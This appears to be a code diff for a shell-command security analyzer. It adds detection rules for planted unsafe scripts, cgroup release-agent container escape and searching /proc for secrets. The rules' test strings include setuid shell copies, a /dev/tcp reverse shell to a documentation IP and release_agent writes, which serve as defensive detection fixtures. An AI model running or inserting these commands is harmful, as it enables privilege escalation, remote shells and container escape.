@@ -169,6 +169,28 @@ var posixFlowRules = []*rule{
 		check:   checkAccountLockout,
 	},
 	{
+		ID: "script-planted-unsafe", Class: "persistence", Sev: high,
+		Msg: "writes a shell script whose own commands are unsafe (ATT&CK T1059.004)",
+		Must: []string{
+			"printf '#!/bin/sh\\ncp /bin/bash /tmp/rb; chmod 4755 /tmp/rb\\n' > /usr/local/bin/backup.sh",
+			"echo 'cp /bin/sh /tmp/s && chmod +s /tmp/s' >> /opt/scripts/cleanup.sh",
+			"cat > /tmp/u.sh <<'EOF'\nbash -i >& /dev/tcp/192.0.2.120/443 0>&1\nEOF",
+		},
+		MustNot: []string{
+			"echo 'npm test' > run.sh",
+			"printf '#!/bin/sh\\nmake -C ~/proj\\n' > ~/bin/build.sh",
+			"cat > deploy.sh <<'EOF'\nrsync -a dist/ deploy@198.51.100.121:/srv/app/\nEOF",
+		},
+		check: checkScriptPlanted,
+	},
+	{
+		ID: "cgroup-release-agent", Class: "container escape", Sev: high,
+		Msg:     "sets a cgroup's release agent, which the host kernel runs as root outside the container (ATT&CK T1611)",
+		Must:    []string{"echo /tmp/escape.sh > /sys/fs/cgroup/release_agent", "echo \"$host_path/cmd\" > /tmp/cg/release_agent"},
+		MustNot: []string{"cat /sys/fs/cgroup/release_agent", "echo 1 > /sys/fs/cgroup/cpu/tasks"},
+		check:   checkReleaseAgent,
+	},
+	{
 		ID: "cloud-secrets-harvest", Class: "credential access", Sev: high,
 		Msg: "lists a cloud account's secrets and fetches every one of them (ATT&CK T1555.006)",
 		Must: []string{
@@ -218,7 +240,8 @@ func checkHistorySecretHunt(c *call, _ *config) *hit {
 		return nil
 	}
 	for _, op := range operands(c, "-n -c") {
-		if isHistoryFile(op) && grepsFor(c, secretWordRe) {
+		// Every process's command line or environment searched the same way.
+		if (isHistoryFile(op) || procCmdlineRe.MatchString(normPath(op))) && grepsFor(c, secretWordRe) {
 			return c.rule()
 		}
 	}
@@ -257,7 +280,10 @@ func killHints(a *analysis) []string {
 	return psHints(a, out)
 }
 
-var processWordRe = regexp.MustCompile(`[a-z][a-z0-9_.-]*`)
+var (
+	processWordRe = regexp.MustCompile(`[a-z][a-z0-9_.-]*`)
+	procCmdlineRe = regexp.MustCompile(`^/proc/[^/]+/(cmdline|environ)$`)
+)
 
 // psHints adds the names a script that lists processes compares their
 // command lines with (only when it runs ps: the test is about processes).
@@ -725,6 +751,57 @@ func checkAccountLockout(c *call, _ *config) *hit {
 		}
 	case "chage":
 		if v, ok := optValue(c, "-E", "--expiredate"); ok && (v == "0" || v == "1") {
+			return c.rule()
+		}
+	}
+	return nil
+}
+
+// scriptTarget reports a file that is run as a shell script: a .sh file,
+// or a file in a bin, sbin or scripts directory.
+func scriptTarget(p string) bool {
+	n := normPath(p)
+	if strings.HasSuffix(n, ".sh") || strings.HasSuffix(n, ".bash") {
+		return true
+	}
+	switch path.Base(path.Dir(n)) {
+	case "bin", "sbin", "scripts":
+		return !strings.Contains(path.Base(n), ".") || strings.HasSuffix(n, ".sh")
+	}
+	return false
+}
+
+// checkScriptPlanted judges the text written into a script file as the
+// commands it is: a script that copies a shell and makes it setuid, or
+// connects one to a remote host, is planted for someone to run.
+func checkScriptPlanted(c *call, _ *config) *hit {
+	if c.name != "echo" && c.name != "printf" && c.name != "cat" && c.name != "tee" || c.depth >= maxDepth-1 {
+		return nil
+	}
+	target := false
+	for _, w := range writes(c) {
+		if scriptTarget(w) {
+			target = true
+		}
+	}
+	if !target {
+		return nil
+	}
+	text := written(c)
+	if c.name == "cat" && c.stdin == "" || len(text) < 4 || len(text) > 8192 {
+		return nil
+	}
+	for _, m := range judgeNested(c.a.ctx, text, defaultConfig) {
+		if m.sev >= high && m.rule.ID != "script-planted-unsafe" {
+			return hitf(c, 0, "writes a shell script whose own commands are unsafe ("+m.rule.Class+")")
+		}
+	}
+	return nil
+}
+
+func checkReleaseAgent(c *call, _ *config) *hit {
+	for _, w := range writes(c) {
+		if path.Base(normPath(w)) == "release_agent" {
 			return c.rule()
 		}
 	}
